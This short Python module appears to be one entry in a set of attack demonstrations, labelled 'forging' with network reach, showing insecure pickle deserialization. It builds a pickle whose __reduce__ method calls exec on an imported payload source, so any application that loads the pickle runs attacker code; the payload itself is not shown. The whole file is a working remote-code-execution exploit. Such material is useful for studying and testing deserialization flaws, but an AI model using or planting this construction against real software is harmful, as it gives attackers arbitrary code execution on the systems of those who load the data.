"""The application loads a pickle that it was handed."""
CATEGORY = "forging"
REACH = "net"
BEYOND = "A pickle is a program, and whoever loads it runs it."

import pickle

from . import payload


class Text:

    def __reduce__(self):
        return exec, (payload.SOURCE, {})


data = pickle.dumps(Text())
